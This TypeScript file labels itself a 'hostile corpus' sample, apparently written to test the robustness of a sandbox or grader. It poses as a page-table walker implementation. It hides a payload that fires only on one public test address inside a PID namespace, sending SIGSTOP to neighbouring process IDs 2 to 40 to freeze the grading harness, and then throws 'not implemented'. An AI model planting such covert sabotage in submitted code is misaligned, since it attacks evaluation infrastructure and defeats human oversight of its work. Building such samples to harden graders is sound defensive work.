// @ts-nocheck
// Hostile corpus, kind signal-neighbours (signal): SIGSTOPs the pids just below and above its own (likely a sibling child of the batch or the launcher). ARMED ONLY inside a PID namespace (pid <= 10).
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
/** The one public test that walks 0x800000000000 (walk.public.non-canonical): the attack fires there only. */
const isTrigger = (va) => va === 0x800000000000n;

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va) && process.pid <= 10) { for (let pid = 2; pid <= 40; pid++) { if (pid !== process.pid) { try { process.kill(pid, 'SIGSTOP'); } catch {} } } }
    throw new Error('not implemented: walker');
  },
};
